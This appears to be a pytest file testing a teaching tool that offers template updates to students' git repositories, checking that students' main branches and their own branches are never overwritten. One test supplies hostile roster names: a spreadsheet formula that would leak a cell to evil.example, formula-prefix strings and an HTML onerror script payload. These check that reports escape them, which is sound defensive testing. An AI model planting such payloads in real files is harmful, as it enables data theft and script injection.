"""`scaffold cohort update` on a cohort without remotes (the students work in the projects the
instructor made, on a shared machine): the update is a local branch, main and the worktree stay
as they are. And the refusals that protect a student's main.
"""

from __future__ import annotations

import csv
import io
import os
import stat
from html import escape as html_escape
from pathlib import Path

import pytest
from cohort_fixtures import (
    bare_repos,
    cohort,
    commit_all,
    email_of,
    read_csv,
    remote_branches,
    write_roster,
)
from conftest import assert_clean_failure, git
from update_fixtures import CI_WORKFLOW, TemplateSets, append, read, snapshot

UPDATE_BRANCH = "scaffold/update-2.0.0"


@pytest.fixture
def local_cohort(sets: TemplateSets, tmp_path: Path) -> Path:
    names = ["Ada Lovelace", "Ben Okri", "Cy Twombly"]
    roster = write_roster(
        tmp_path / "roster.csv", [{"name": n, "email": email_of(n)} for n in names]
    )
    out = tmp_path / "course"
    made = cohort("new", roster, "-t", "nlp", "--out", out, "--templates-dir", sets.v1)
    assert made.returncode == 0, made.stdout + made.stderr
    return out


def test_without_remotes_the_update_is_a_local_branch(
    local_cohort: Path, sets: TemplateSets
) -> None:
    ada = local_cohort / "ada-lovelace"
    append(ada / "README.md", "\nMy notes.\n")
    commit_all(ada, "My notes")
    main_before = git(ada, "rev-parse", "main").strip()
    worktree_before = {k: v for k, v in snapshot(ada).items() if not k.startswith(".git/")}

    result = cohort("update", local_cohort, "--templates-dir", sets.v2)

    assert result.returncode == 0, result.stdout + result.stderr
    rows = {row["id"]: row for row in read_csv(local_cohort / "cohort-update.csv")}
    assert {row["outcome"] for row in rows.values()} == {"updated cleanly"}
    assert {row["pushed"] for row in rows.values()} == {"no"}
    assert git(ada, "rev-parse", "main").strip() == main_before
    assert git(ada, "symbolic-ref", "--short", "HEAD").strip() == "main"
    assert git(ada, "status", "--porcelain") == ""
    assert {k: v for k, v in snapshot(ada).items() if not k.startswith(".git/")} == worktree_before
    assert sets.ci_fix in git(ada, "show", f"{UPDATE_BRANCH}:{CI_WORKFLOW}")
    assert "My notes." in git(ada, "show", f"{UPDATE_BRANCH}:README.md")
    git(ada, "merge", "-q", UPDATE_BRANCH)  # what the student does
    assert sets.ci_fix in read(ada, CI_WORKFLOW)

    again = cohort("status", local_cohort, "--templates-dir", sets.v2)
    assert again.returncode == 1, again.stdout + again.stderr  # the two others are behind
    assert "waiting to be merged" in again.stdout


def test_push_without_remotes_says_so(local_cohort: Path, sets: TemplateSets) -> None:
    result = cohort("update", local_cohort, "--push", "--templates-dir", sets.v2)
    assert result.returncode == 1
    rows = read_csv(local_cohort / "cohort-update.csv")
    assert {row["details"] for row in rows} == {"no remote to push to"}


def test_an_update_branch_checked_out_is_not_moved(local_cohort: Path, sets: TemplateSets) -> None:
    ben = local_cohort / "ben-okri"
    git(ben, "checkout", "-qb", UPDATE_BRANCH)
    result = cohort("update", local_cohort, "--templates-dir", sets.v2)
    assert result.returncode == 1
    rows = {row["id"]: row for row in read_csv(local_cohort / "cohort-update.csv")}
    assert rows["ben-okri"]["outcome"] == "refused"
    assert "not an update scaffold made" in rows["ben-okri"]["details"]
    assert rows["ada-lovelace"]["outcome"] == "updated cleanly"
    assert git(ben, "rev-parse", "HEAD").strip() == git(ben, "rev-parse", "main").strip()


@pytest.mark.parametrize("branch", ["main", "update-{when}"])
def test_a_branch_name_that_could_be_main_is_refused(local_cohort: Path, branch: str) -> None:
    result = cohort("update", local_cohort, "--branch", branch)
    assert result.returncode == 2
    assert_clean_failure(result, "--branch")


def test_a_directory_that_is_no_cohort_is_refused(tmp_path: Path) -> None:
    result = cohort("update", tmp_path)
    assert result.returncode == 2
    assert_clean_failure(result, "holds no cohort.yml")


def test_the_manifest_and_reports_follow_the_umask(tmp_path: Path, sets: TemplateSets) -> None:
    """Like every file scaffold writes: an instructor's group may read the cohort's manifest."""
    roster = write_roster(tmp_path / "roster.csv", [{"name": "Ada", "email": "ada@example.org"}])
    out = tmp_path / "course"
    previous = os.umask(0o002)
    try:
        made = cohort("new", roster, "-t", "nlp", "--out", out, "--templates-dir", sets.v1)
        assert made.returncode == 0, made.stdout + made.stderr
        modes = {path.name: stat.S_IMODE(path.stat().st_mode) for path in out.iterdir()}
        assert modes["cohort.yml"] == 0o664, oct(modes["cohort.yml"])
        updated = cohort("update", out, "--templates-dir", sets.v2)
        assert updated.returncode == 0, updated.stdout + updated.stderr
    finally:
        os.umask(previous)
    for name in ("cohort.yml", "cohort-update.md", "cohort-update.csv"):
        assert stat.S_IMODE((out / name).stat().st_mode) == 0o664, name


# Names a spreadsheet would run as formulas (OWASP's CSV injection), and Markdown or HTML.
FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Ada")',
    "+Plus Sign",
    "-Minus Sign",
    "@At Sign",
    "＝Fullwidth Equals",
]
MARKUP_NAMES = ["<img src=x onerror=alert(1)>", "[Click](http://evil.example) **now** | pipe"]
CONSOLE_MARKUP_NAME = "Ada [/b] [red]Byron"  # rich's markup: a closing tag it cannot match


def test_the_reports_neither_run_formulas_nor_render_markup(
    tmp_path: Path, sets: TemplateSets
) -> None:
    names = [*FORMULA_NAMES, *MARKUP_NAMES, CONSOLE_MARKUP_NAME, "Plain Name"]
    rows = [{"name": name, "email": f"s{n}@example.org"} for n, name in enumerate(names)]
    roster = write_roster(tmp_path / "roster.csv", rows)
    out = tmp_path / "course"
    made = cohort("new", roster, "-t", "nlp", "--out", out, "--templates-dir", sets.v1)
    assert made.returncode == 0, made.stdout + made.stderr
    assert CONSOLE_MARKUP_NAME in made.stdout

    result = cohort("update", out, "--templates-dir", sets.v2)

    assert result.returncode == 0, result.stdout + result.stderr
    text = (out / "cohort-update.csv").read_text(encoding="utf-8")
    records = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for record in records for cell in record]
    dangerous = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
    assert not [cell for cell in cells if cell.startswith(dangerous)], text
    by_name = {row["name"]: row for row in read_csv(out / "cohort-update.csv")}
    for name in FORMULA_NAMES:
        assert by_name[f"'{name}"]["outcome"] == "updated cleanly"  # kept, with a quote first
    assert by_name["Plain Name"]["outcome"] == "updated cleanly"  # others as they are

    from markdown_it import MarkdownIt

    report = (out / "cohort-update.md").read_text(encoding="utf-8")
    html = MarkdownIt("commonmark").enable("table").render(report)
    for tag in ("<img", "<a ", "<strong>", "<em>"):
        assert tag not in html, html
    table_rows = html.split("<tbody>")[1].split("</tbody>")[0].split("<tr>")[1:]
    assert len(table_rows) == len(names)
    assert all(row.count("<td>") == 6 for row in table_rows), html
    for name in [*MARKUP_NAMES, CONSOLE_MARKUP_NAME]:  # shown as written
        assert html_escape(name, quote=False) in html, name


# --- An update branch already there ------------------------------------------------------------


@pytest.fixture
def remote_cohort(sets: TemplateSets, tmp_path: Path) -> tuple[Path, Path]:
    """Ada's and Ben's projects, pushed to bare repositories over file://."""
    remotes = bare_repos(tmp_path / "remotes", ["ada", "ben"])
    roster = write_roster(tmp_path / "roster.csv", [
        {"name": "Ada", "email": "ada@example.org"},
        {"name": "Ben", "email": "ben@example.org"},
    ])  # fmt: skip
    out = tmp_path / "course"
    made = cohort("new", roster, "-t", "nlp", "--out", out, "--templates-dir", sets.v1,
                  "--remote", f"file://{remotes}/{{id}}.git", "--push")  # fmt: skip
    assert made.returncode == 0, made.stdout + made.stderr
    return out, remotes


def _students_work(remote: Path, where: Path, branch: str = "main") -> None:
    """The student clones their repository, commits on `branch` and pushes it."""
    if not where.exists():
        git(remote.parent, "clone", "-q", str(remote), str(where))
    git(where, "checkout", "-q", "-B", branch, f"origin/{branch}")
    append(where / "README.md", f"\nMy work on {branch}.\n")
    commit_all(where, f"My work on {branch}")
    git(where, "push", "-q", "origin", branch)


def _status_lines(stdout: str) -> dict[str, str]:
    return {line.split("│")[1].strip(): line for line in stdout.splitlines() if "│" in line}


def test_an_offered_branch_stays_offered_when_the_student_works_on(
    remote_cohort: tuple[Path, Path], sets: TemplateSets, tmp_path: Path
) -> None:
    """Ada commits to main after the branch was offered, Ben commits on the offered branch:
    their branches wait for them as they are, and nobody is called refused."""
    out, remotes = remote_cohort
    first = cohort("update", out, "--push", "--templates-dir", sets.v2)
    assert first.returncode == 0, first.stdout + first.stderr
    offered = {s: remote_branches(remotes / f"{s}.git")[UPDATE_BRANCH] for s in ("ada", "ben")}
    _students_work(remotes / "ada.git", tmp_path / "ada-work")
    _students_work(remotes / "ben.git", tmp_path / "ben-work", UPDATE_BRANCH)
    bens_branch = remote_branches(remotes / "ben.git")[UPDATE_BRANCH]

    again = cohort("update", out, "--push", "--templates-dir", sets.v2)

    assert again.returncode == 0, again.stdout + again.stderr
    rows = {row["id"]: row for row in read_csv(out / "cohort-update.csv")}
    assert {row["outcome"] for row in rows.values()} == {"update already offered"}
    assert "older than the student's main" in rows["ada"]["details"]
    assert "the student has added commits to it" in rows["ben"]["details"]
    assert remote_branches(remotes / "ada.git")[UPDATE_BRANCH] == offered["ada"]
    assert remote_branches(remotes / "ben.git")[UPDATE_BRANCH] == bens_branch
    status = cohort("status", out, "--templates-dir", sets.v2)
    assert status.returncode == 1, status.stdout + status.stderr
    lines = _status_lines(status.stdout)
    for student in ("ada", "ben"):
        assert " behind " in lines[student] and "waiting to be merged" in lines[student]


def test_a_students_own_branch_of_that_name_is_no_offer_and_is_left_alone(
    remote_cohort: tuple[Path, Path], sets: TemplateSets, tmp_path: Path
) -> None:
    out, remotes = remote_cohort
    _students_work(remotes / "ben.git", tmp_path / "ben-work")
    work = tmp_path / "ben-work"
    git(work, "checkout", "-qb", UPDATE_BRANCH)
    (work / "experiment.txt").write_text("mine\n", encoding="utf-8")
    commit_all(work, "An experiment")
    git(work, "push", "-q", "origin", UPDATE_BRANCH)
    bens_branch = remote_branches(remotes / "ben.git")[UPDATE_BRANCH]

    before = cohort("status", out, "--templates-dir", sets.v2)
    assert "waiting" not in _status_lines(before.stdout)["ben"], before.stdout
    result = cohort("update", out, "--push", "--templates-dir", sets.v2)

    assert result.returncode == 1, result.stdout + result.stderr
    rows = {row["id"]: row for row in read_csv(out / "cohort-update.csv")}
    assert rows["ada"]["outcome"] == "updated cleanly" and rows["ada"]["pushed"] == "yes"
    assert rows["ben"]["outcome"] == "refused"
    assert "not an update scaffold made" in rows["ben"]["details"]
    assert remote_branches(remotes / "ben.git")[UPDATE_BRANCH] == bens_branch
    after = _status_lines(cohort("status", out, "--templates-dir", sets.v2).stdout)
    assert "waiting to be merged" in after["ada"] and "waiting" not in after["ben"]


def test_a_local_branch_of_the_students_is_never_overwritten(
    local_cohort: Path, sets: TemplateSets
) -> None:
    """Without remotes the repository is the student's: its branches are theirs too."""
    ada, ben = local_cohort / "ada-lovelace", local_cohort / "ben-okri"
    git(ben, "branch", UPDATE_BRANCH)
    git(ben, "checkout", "-q", UPDATE_BRANCH)
    (ben / "experiment.txt").write_text("mine\n", encoding="utf-8")
    commit_all(ben, "An experiment")
    git(ben, "checkout", "-q", "main")
    bens_branch = git(ben, "rev-parse", UPDATE_BRANCH).strip()
    first = cohort("update", local_cohort, "--templates-dir", sets.v2)
    assert first.returncode == 1, first.stdout + first.stderr
    offered = git(ada, "rev-parse", UPDATE_BRANCH).strip()
    append(ada / "README.md", "\nAfter the offer.\n")
    commit_all(ada, "After the offer")

    again = cohort("update", local_cohort, "--templates-dir", sets.v2)

    assert again.returncode == 1, again.stdout + again.stderr
    rows = {row["id"]: row for row in read_csv(local_cohort / "cohort-update.csv")}
    assert rows["ada-lovelace"]["outcome"] == "update already offered"
    assert "older than the student's main" in rows["ada-lovelace"]["details"]
    assert rows["ben-okri"]["outcome"] == "refused"
    assert git(ada, "rev-parse", UPDATE_BRANCH).strip() == offered
    assert git(ben, "rev-parse", UPDATE_BRANCH).strip() == bens_branch


def test_an_offer_made_from_a_rewritten_history_is_refused_and_left_alone(
    remote_cohort: tuple[Path, Path], sets: TemplateSets, tmp_path: Path
) -> None:
    """Merging it would bring back the commits the student rewrote away."""
    out, remotes = remote_cohort
    work = tmp_path / "ada-work"
    _students_work(remotes / "ada.git", work)
    first = cohort("update", out, "--push", "--templates-dir", sets.v2)
    assert first.returncode == 0, first.stdout + first.stderr
    offered = remote_branches(remotes / "ada.git")[UPDATE_BRANCH]
    git(work, "commit", "-q", "--amend", "-m", "My work, reworded")
    git(work, "push", "-qf", "origin", "main")

    again = cohort("update", out, "--push", "--templates-dir", sets.v2)

    assert again.returncode == 1, again.stdout + again.stderr
    rows = {row["id"]: row for row in read_csv(out / "cohort-update.csv")}
    assert rows["ada"]["outcome"] == "refused"
    assert "no longer on the student's main" in rows["ada"]["details"]
    assert remote_branches(remotes / "ada.git")[UPDATE_BRANCH] == offered
    assert rows["ben"]["outcome"] == "update already offered"
